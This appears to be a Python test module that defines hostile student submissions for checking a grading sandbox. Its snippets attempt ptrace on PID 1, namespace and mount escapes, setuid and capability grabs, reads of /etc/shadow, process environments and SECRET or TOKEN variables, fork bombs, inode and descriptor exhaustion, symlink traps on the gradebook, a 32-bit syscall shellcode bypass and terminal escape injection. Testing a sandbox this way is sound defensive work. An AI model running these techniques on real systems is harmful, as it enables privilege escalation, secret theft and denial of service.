"""Attacks through the kernel: on other processes, on the machine, and on what all submissions share.

Where an attack reaches what it must not, its ``scale`` is right and it earns points.
"""

from __future__ import annotations

from tests.hostile.attack import RIGHT_CENTRE, RIGHT_SCALE, Attack

KERNEL = r"""
import ctypes, errno, os, platform, resource, signal, socket, sys, time

libc = ctypes.CDLL(None, use_errno=True)
reached = []

def call(what, number, *arguments):
    "A system call by its number (x86-64, aarch64); that it succeeds, or fails for the arguments alone, is noted."
    numbers = number if isinstance(number, tuple) else (number, number)
    number = numbers[platform.machine() == "aarch64"]
    ctypes.set_errno(0)
    result = libc.syscall(number, *arguments)
    if result >= 0 or ctypes.get_errno() not in (errno.EPERM, errno.ENOSYS, errno.EACCES):
        reached.append((what, result, ctypes.get_errno()))

def attempt(what, function, *arguments):
    try:
        result = function(*arguments)
    except BaseException as error:
        return None
    reached.append((what, result))
    return result
"""

WRONG_UNLESS_REACHED = "def scale(x, factor):\n    assert not reached, reached\n    return x"
"""Wrong, and says what was reached."""

REACHES = {
    "other-processes": (
        "trace, read, stop or slow down the keeper, its parent and everybody",
        r"""
page = ctypes.create_string_buffer(64)
for pid in (1, os.getppid()):
    call("ptrace", (101, 117), 16, pid, 0, 0)
    call("ptrace seize", (101, 117), 0x4206, pid, 0, 0)
    call("process_vm_readv", (310, 270), pid, page, 1, page, 1, 0)
    call("process_vm_writev", (311, 271), pid, page, 1, page, 1, 0)
    call("pidfd_open", 434, pid, 0)
    call("kcmp", (312, 272), os.getpid(), pid, 0, 0, 0)
    call("process_madvise", 440, 0, page, 1, 4, 0)
    call("migrate_pages", (256, 238), pid, 0, 0, 0)
for signum in (9, 19, 15, 11):
    os.kill(1, signum)
time.sleep(0.05)
for what in ("setpriority", "ioprio_set"):
    for pid in (1,):
        ctypes.set_errno(0)
        number = {"setpriority": (141, 140), "ioprio_set": (251, 30)}[what][platform.machine() == "aarch64"]
        if libc.syscall(number, 0 if what == "setpriority" else 1, pid, 19) == 0:
            print("a lower priority of the keeper of its own submission:", what)
attempt("a higher priority", os.setpriority, os.PRIO_PROCESS, 0, -20)
attempt("real time", os.sched_setscheduler, 0, os.SCHED_FIFO, os.sched_param(50))
attempt("another processor", os.sched_setaffinity, 0, range(os.cpu_count()))
attempt("limits of another", resource.prlimit, 1, resource.RLIMIT_NOFILE, (5, 5))
""",
    ),
    "namespaces": (
        "leave the sandbox by a namespace or a mount of its own",
        r"""
for flag in (0x10000000, 0x20000, 0x20000000, 0x40000000, 0x8000000, 0x4000000, 0x2000000, 0x80):
    call("unshare", (272, 97), flag)
    call("clone", (56, 220), flag | 17, 0, 0, 0, 0)
call("clone3", 435, ctypes.create_string_buffer(88), 88)
call("setns", (308, 268), 0, 0)
call("mount", (165, 40), b"none", b"/tmp", b"tmpfs", 0, 0)
call("umount", (166, 39), b"/proc", 2)
call("pivot_root", (155, 41), b"/tmp", b"/tmp")
call("chroot", (161, 51), b"/tmp")
call("fsopen", 430, b"tmpfs", 0)
call("open_tree", 428, -100, b"/", 1)
call("move_mount", 429, 0, b"", 0, b"", 0)
call("mount_setattr", 442, -100, b"/", 0, ctypes.create_string_buffer(32), 32)
call("name_to_handle_at", (303, 264), -100, b"/", 0, 0, 0)
call("open_by_handle_at", (304, 265), 0, 0, 0)
""",
    ),
    "kernel-parts": (
        "use parts of the kernel that have been a way out",
        r"""
some = ctypes.create_string_buffer(128)
for what, number in {"bpf": (321, 280), "perf": (298, 241), "userfaultfd": (323, 282), "io_uring": 425,
    "add_key": (248, 217),
                     "keyctl": (250, 219), "request_key": (249, 218), "kexec": (246, 104), "init_module": (175, 105),
                     "finit_module": (313, 273), "reboot": (169, 142), "swapon": (167, 224), "acct": (163, 89),
                     "syslog": (103, 116), "personality": (135, 92), "fanotify": (300, 262), "memfd": (319, 279),
                     "memfd_secret": 447, "seccomp": (317, 277), "landlock": 444, "quotactl": (179, 60),
                     "settimeofday": (164, 170), "clock_settime": (227, 112), "adjtimex": (159, 171),
                         "sethostname": (170, 161),
                     "a call of the future": 480, "shmget": (29, 194), "semget": (64, 190), "msgget": (68, 186),
                     "mq_open": (240, 180), "vmsplice": (278, 75), "lookup_dcookie": (212, 18)}.items():
    call(what, number, some, some, 64, 0, 0, 0)
if platform.machine() == "x86_64":
    call("x32", 0x40000000 + 39)
    call("modify_ldt", 154, 0, some, 64)
    call("iopl", 172, 3)
    call("ioperm", 173, 0, 1, 1)
""",
    ),
    "sockets": (
        "reach the network, the kernel or the host by a socket",
        r"""
for name, family in {"inet": 2, "inet6": 10, "netlink": 16, "packet": 17, "vsock": 40, "alg": 38, "bluetooth": 31,
    "can": 29,
                     "xdp": 44, "tipc": 30, "kcm": 41, "rds": 21, "ax25": 3, "qipcrtr": 42, "smc": 43}.items():
    for kind in (1, 2, 3, 5):
        attempt(name, socket.socket, family, kind)
    attempt(name, socket.socketpair, family, 1)
for place in ("/var/run/docker.sock", "/run/containerd/containerd.sock", "/run/dbus/system_bus_socket",
    "/run/systemd/private",
              "\0/tmp/.X11-unix/X0", "\0/tmp/dbus-0", "\0hostile", "\0com.ubuntu.upstart"):
    with socket.socket(socket.AF_UNIX) as client:
        attempt(place, client.connect, place)
""",
    ),
    "proc-and-sys": (
        "read environments, memory and open files of this and other processes",
        r"""
for name in ("environ", "mem", "maps", "fd", "root", "cwd", "exe", "cmdline", "status", "ns/user", "task", "stat"):
    for pid in ("1", "2", "self", str(os.getppid()), "thread-self"):
        if os.path.lexists(f"/proc/{pid}/{name}"):
            reached.append(f"/proc/{pid}/{name}")
for path in ("/sys/class", "/sys/fs/cgroup", "/sys/kernel", "/proc/sys", "/proc/kcore", "/proc/sysrq-trigger",
    "/etc/passwd",
             "/etc/shadow", "/var", "/run", "/boot", "/mnt", "/srv", "/.dockerenv"):
    if os.path.isdir(path) and not os.listdir(path):
        continue
    if os.path.lexists(path):
        reached.append(path)
hosts = [name for name in os.environ if "SECRET" in name or "TOKEN" in name or name in ("VIRTUAL_ENV", "TMPDIR",
    "SHELL")]
reached += hosts
""",
    ),
    "devices": (
        "open or make a device",
        r"""
import stat
for name in ("mem", "kmem", "kmsg", "tty", "ptmx", "console", "fuse", "kvm", "sda", "loop-control", "net/tun",
    "vhost-vsock", "hpet"):
    attempt(name, os.open, f"/dev/{name}", os.O_RDWR)
for folder in ("/tmp", "/dev", "/dev/shm", "/"):
    attempt("mknod", os.mknod, folder + "/hostile-device", 0o666 | stat.S_IFBLK, os.makedev(8, 0))
    attempt("mknod", os.mknod, folder + "/hostile-memory", 0o666 | stat.S_IFCHR, os.makedev(1, 1))
for number in range(3):
    for request in (0x5412, 0x541C, 0x540E):
        import fcntl
        attempt("ioctl", fcntl.ioctl, number, request, b"x")
""",
    ),
    "becoming-root": (
        "be another user, have a capability, or a program that gives one",
        r"""
for user in (0, 1, 65534, 1879048193):
    attempt("setuid", os.setuid, user)
    attempt("setgid", os.setgid, user)
attempt("setgroups", os.setgroups, [0])
attempt("setresuid", os.setresuid, 0, 0, 0)
header, every = (ctypes.c_uint32 * 2)(0x20080522, 0), (ctypes.c_uint32 * 6)(*[2**32 - 1] * 6)
call("capset", (126, 91), header, every)
for option, value in ((24, 21), (47, 2), (28, 0)):
    if option == 47 and libc.prctl(47, 2, 21, 0, 0) == 0:
        reached.append("an ambient capability")
if libc.prctl(39, 0, 0, 0, 0) != 1:
    reached.append("new privileges")
attempt("chown", os.chown, "/tmp", 0, 0)
for name in ("/tmp/hostile-root", "/dev/shm/hostile-root"):
    with open(name, "wb") as file:
        file.write(b"#!/bin/sh\n")
    try:
        os.chmod(name, 0o6755)
    except OSError:
        pass
""",
    ),
    "writing-to-libraries": (
        "change the Python or the libraries that everybody uses",
        r"""
import json, numpy
for module in (os, json, numpy, sys.modules["inside.wire"], sys.modules["inside.calls"]):
    path = module.__file__
    attempt(path, open, path, "a")
    attempt(path, os.chmod, path, 0o777)
    attempt(path, os.unlink, path)
    attempt(path, os.rename, path, path + ".old")
    attempt(path, os.link, path, "/tmp/hostile-link")
    attempt(path, os.truncate, path, 0)
    attempt(path, os.utime, path)
    attempt("a new file", open, os.path.join(os.path.dirname(path), "hostile.py"), "w")
attempt("the program", open, sys.executable, "r+b")
for folder in ("/", "/site", "/runner", "/usr", "/lib", "/dev", "/proc"):
    attempt(folder, open, folder + "/hostile", "w")
""",
    ),
    "flags-of-files": (
        "change what a file system keeps of a file that it may only read, or leave word there",
        r"""
import fcntl
open("own", "w").close()
for path in ("own", ".", os.__file__):
    file = os.open(path, os.O_RDONLY)
    for request in (0x40086602, 0x401C5820, 0x40086604, 0x40047602, 0x4004587F, 0x5412, 0x40806685):
        attempt((path, request), fcntl.ioctl, file, request, bytes(64))
""",
    ),
    "limits": (
        "raise its own limits",
        r"""
for name in dir(resource):
    if name.startswith("RLIMIT_"):
        soft, hard = resource.getrlimit(getattr(resource, name))
        if hard != resource.RLIM_INFINITY:
            attempt(name, resource.setrlimit, getattr(resource, name), (hard + 1, hard + 1))
            attempt(name, resource.setrlimit, getattr(resource, name), (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
for name in ("AS", "CPU", "FSIZE", "NPROC", "NOFILE", "SIGPENDING"):
    if resource.getrlimit(getattr(resource, f"RLIMIT_{name}"))[1] == resource.RLIM_INFINITY:
        reached.append(f"no limit on {name}")
""",
    ),
    "what-a-user-has-few-of": (
        "use up what the kernel counts by users, so that neighbours, and whoever grades, have none of it",
        r"""
import array, fcntl
with open("own", "w") as own:
    for what in (fcntl.F_SETLEASE, fcntl.F_NOTIFY):
        attempt(what, fcntl.fcntl, own, what, fcntl.F_WRLCK)
call("inotify_init1", (294, 26), 0)
one, other = socket.socketpair()
attempt("sendmsg", one.sendmsg, [b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [0]))])
call("sendmmsg", (307, 269), one.fileno(), 0, 0, 0)
signal.pthread_sigmask(signal.SIG_BLOCK, [signal.SIGRTMIN])
waiting = 0
while waiting < 10_000 and libc.sigqueue(os.getpid(), signal.SIGRTMIN, ctypes.c_void_p()) == 0:
    waiting += 1
if waiting > 256:
    reached.append(f"{waiting} signals that wait")
""",
    ),
    "other-submissions": (
        "find what another submission left or holds",
        r"""
for folder in ("/dev/shm", "/tmp", "/var/tmp", "/run/shm"):
    if os.path.isdir(folder):
        reached += [name for name in os.listdir(folder) if name.startswith("hostile")]
        with open(folder + "/hostile-was-here", "w") as file:
            file.write("x")
for name in ("\0hostile-here", "\0kept"):
    with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as client:
        attempt(name, client.connect, name)
kept = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
kept.bind("\0hostile-here")
with open("/dev/urandom", "rb+", buffering=0) as file:
    file.write(b"x")
""",
    ),
}

REACHING = tuple(
    Attack(
        f"reaches-{name}",
        seeks,
        first=f"{KERNEL}{source}",
        scale=WRONG_UNLESS_REACHED,
        centre="def centre(x):\n    assert not reached, reached\n    return x - x.mean()",
        earned=6,
    )
    for name, (seeks, source) in REACHES.items()
)

FILLS = {
    "sparse-files": (
        "have files of sizes that nothing holds",
        r"""
signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
for folder in ("/tmp", "/dev/shm"):
    for size in (2**30, 2**40, 2**62):
        with open(f"{folder}/hostile-{size}", "wb") as file:
            for grow in (file.truncate, lambda size: os.posix_fallocate(file.fileno(), 0, size),
                lambda size: file.seek(size) and file.write(b"x")):
                try:
                    grow(size)
                    file.flush()
                except OSError:
                    pass
""",
    ),
    "many-files": (
        "use up all inodes",
        r"""
try:
    for number in range(100_000):
        os.close(os.open(f"/tmp/{number}", os.O_CREAT))
except OSError as error:
    print(error.strerror)
""",
    ),
    "deep-folders": (
        "make a tree that nothing can walk or remove",
        r"""
try:
    for _ in range(100_000):
        os.mkdir("d")
        os.chdir("d")
except OSError as error:
    print(error.strerror)
""",
    ),
    "links-in-tmp": (
        "have the grader follow a link that lies where it writes",
        r"""
for number, target in enumerate(("COURSE_ROOT/gradebook.db", "/etc/passwd", "/proc/1/mem", "loop", "..", "/dev/full")):
    for name in (f"link-{number}", "matplotlib", "ipython", "results.json", "gradebook.db", "warmup.ipynb", "loop"):
        try:
            os.symlink(target, f"/tmp/{name}")
        except OSError:
            pass
""",
    ),
    "inotify": (
        "use up what the kernel gives a user of watches",
        r"""
held = []
for _ in range(1000):
    number = libc.inotify_init1(0)
    if number < 0:
        break
    held.append(number)
    libc.inotify_add_watch(number, b"/", 0xFFF)
print(len(held))
""",
    ),
    "descriptors": (
        "use up all descriptors, and those under way",
        r"""
held = []
try:
    while True:
        held.append(socket.socketpair())
except OSError:
    pass
try:
    for a, b in held:
        socket.send_fds(a, [b"x"], [b.fileno()] * 50)
except OSError as error:
    print(error.strerror)
for pair in held:
    for each in pair:
        each.close()
""",
    ),
    "socket-buffers": (
        "take memory that no limit of a process counts",
        r"""
held = []
try:
    for _ in range(40):
        pair = socket.socketpair()
        held.append(pair)
        for each in pair:
            each.setblocking(False)
            try:
                while each.send(bytes(2**16)):
                    pass
            except BlockingIOError:
                pass
except OSError as error:
    print(error.strerror)
for a, b in held:
    a.close()
    b.close()
""",
    ),
    "timers": (
        "use up timers and signals that wait",
        r"""
signal.signal(signal.SIGRTMIN, signal.SIG_IGN)
signal.pthread_sigmask(signal.SIG_BLOCK, [signal.SIGRTMIN + 1])
for _ in range(100_000):
    if libc.sigqueue(os.getpid(), signal.SIGRTMIN + 1, None) != 0:
        break
timer = ctypes.c_void_p()
made = 0
while made < 20_000 and libc.timer_create(1, None, ctypes.byref(timer)) == 0:
    made += 1
print(made)
""",
    ),
    "locks": (
        "hold locks on what everybody reads",
        r"""
import fcntl
for path in (sys.executable, os.__file__, "/dev/null", "/dev/zero", "/dev/urandom",
    sys.modules["inside.wire"].__file__):
    held = open(path, "rb")
    try:
        fcntl.flock(held, fcntl.LOCK_EX | fcntl.LOCK_NB)
        fcntl.lockf(held, fcntl.LOCK_SH | fcntl.LOCK_NB)
        fcntl.fcntl(held, 1024, 1)
    except OSError as error:
        print(error.strerror)
    globals()["held" + path] = held
""",
    ),
    "own-tracks": (
        "hide from what ends it",
        r"""
libc.prctl(1, 0, 0, 0, 0)
libc.prctl(36, 1, 0, 0, 0)
libc.prctl(4, 0, 0, 0, 0)
libc.prctl(15, b"hostile-left", 0, 0, 0)
for number in range(1, 65):
    try:
        signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError):
        pass
for _ in range(2):
    if os.fork() == 0:
        os.setsid()
        os.fork()
        while True:
            time.sleep(1)
""",
    ),
}

FILLING = tuple(
    Attack(f"takes-{name}", seeks, first=f"{KERNEL}{source}", scale=RIGHT_SCALE, centre=RIGHT_CENTRE, earned=10)
    for name, (seeks, source) in FILLS.items()
)

INT_80 = r"""
import mmap
if platform.machine() == "x86_64":
    code = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    code.write(bytes.fromhex("b814000000cd80c3"))
    call = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(code)))
    print("reached", call())
"""

ENDING = (
    Attack(
        "calls-of-32-bits",
        "go around the filter by the 32-bit table",
        first=KERNEL + INT_80,
        scale=RIGHT_SCALE,
        centre=RIGHT_CENTRE,
        earned=10,
    ),
    Attack(
        "adopted-by-the-keeper",
        "have the keeper bury without end",
        first=KERNEL
        + r"""
for _ in range(200):
    clone_parent = 0x8000
    if libc.syscall(220 if platform.machine() == "aarch64" else 56, clone_parent | 17, 0, 0, 0, 0) == 0:
        os._exit(0)
""",
        scale=RIGHT_SCALE,
        centre=RIGHT_CENTRE,
        earned=10,
        harms_itself=True,
    ),
    Attack(
        "kills-its-group",
        "end what belongs together with it",
        first="import os\nos.killpg(0, 9)",
        scale=RIGHT_SCALE,
        centre=RIGHT_CENTRE,
        earned=10,
    ),
    Attack(
        "stops-everybody",
        "leave nobody to answer for the next row",
        scale="import os, signal\ndef scale(x, factor):\n    os.kill(-1, signal.SIGSTOP)\n    return x * factor",
        centre=RIGHT_CENTRE,
        earned=10,
        harms_itself=True,
    ),
    Attack(
        "stops-itself-in-a-call",
        "hang in a way that no exception ends",
        scale="import os, signal\ndef scale(x, factor): os.kill(os.getpid(), signal.SIGSTOP)",
        centre=RIGHT_CENTRE,
        earned=6,
    ),
    Attack(
        "rings-later",
        "be ended by a signal in the middle of something else",
        first="import signal\nsignal.signal(signal.SIGALRM, signal.SIG_DFL)\nsignal.setitimer(signal.ITIMER_REAL, 0.3)",
        scale=RIGHT_SCALE,
        centre=RIGHT_CENTRE,
        earned=10,
        harms_itself=True,
    ),
    Attack(
        "forks-in-a-cell",
        "take all processes before the rows are forked",
        first="""
import os, time

try:
    while True:
        if os.fork() == 0:
            time.sleep(30)
except OSError:
    pass
""",
        scale=RIGHT_SCALE,
        centre=RIGHT_CENTRE,
        earned=10,
        harms_itself=True,
    ),
    Attack(
        "endless-causes",
        "keep busy what shows an exception",
        first="""
def chain(most):
    error = None
    for number in range(most):
        following = ValueError(number)
        following.__cause__ = error
        error = following
    return error

raise chain(100_000)
""",
        scale="""
def scale(x, factor):
    error = None
    for number in range(10**6):
        following = ValueError(number)
        following.__cause__ = error
        error = following
    raise error
""",
        centre=RIGHT_CENTRE,
        earned=6,
    ),
    Attack(
        "moves-the-terminal",
        "write to the instructor's terminal, to a table or to a log",
        first=r"""
text = "\x1b[2J\x1b]8;;http://evil\x07x\x1b]8;;\x07\u202e=cmd()\r\n\x9b31m[/bold]"
print(text)
import sys; sys.stderr.write(text); sys.__stderr__ and sys.__stderr__.write(text)
""",
        scale=r"""
exec("class Evil(Exception): pass")
Evil.__name__ = text
def scale(x, factor): raise Evil(text)
""",
        centre=RIGHT_CENTRE,
        earned=6,
    ),
)

ATTACKS = (*REACHING, *FILLING, *ENDING)
